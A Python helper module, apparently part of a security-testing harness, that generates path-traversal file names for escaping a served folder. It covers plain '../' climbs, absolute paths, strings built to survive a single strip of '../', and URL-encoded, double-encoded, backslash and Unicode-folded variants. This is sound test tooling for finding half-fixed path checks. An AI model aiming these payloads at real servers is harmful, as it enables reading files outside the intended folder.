"""Names that lead out of a folder: which spelling gets past which half-fix? Used by oracles whose program takes a name.

Each function is one family and returns names, the likeliest first; ``target`` is the file to reach, relative to the
parent of the folder (families that climb) or absolute. ``inside`` is a folder that exists below the served one.
"""

from __future__ import annotations


def climbing(target: str, inside: str) -> tuple[str, ...]:
    """Plain ``..``, at the start, further on, and more of them than there are folders."""
    return (
        f"../{target}",
        f"{inside}/../../{target}",
        f"./../{target}",
        f"..//{target}",
        f"{inside}/.././../{target}",
    )


def absolute(target: str) -> tuple[str, ...]:
    """The path from the root, which ``os.path.join`` takes for the whole."""
    return (target, f"/{target}", f"/.{target}")


def stripped(target: str) -> tuple[str, ...]:
    """What becomes ``../`` when ``../`` (or ``..\\``, or a leading ``/``) is taken out once."""
    path = target.lstrip("/")
    return (
        f"....//{path}",
        f"..././{path}",
        f"....\\/{path}",
        f"..../{path}",
        f"/../{path}",
    )


def recoded(target: str, inside: str) -> tuple[str, ...]:
    """What becomes ``../`` when it is decoded once more, when backslashes are turned round, or by Unicode folding."""
    return (
        f"%2e%2e%2f{target}",
        f"..%2f{target}",
        f"%252e%252e%252f{target}",
        f"{inside}%2f..%2f..%2f{target}",
        f"..\\{target}",
        f"{inside}\\..\\..\\{target}",
        f"..%5c{target}",
        f"\uff0e\uff0e\uff0f{target}",
        f"\u2025\uff0f{target}",
    )
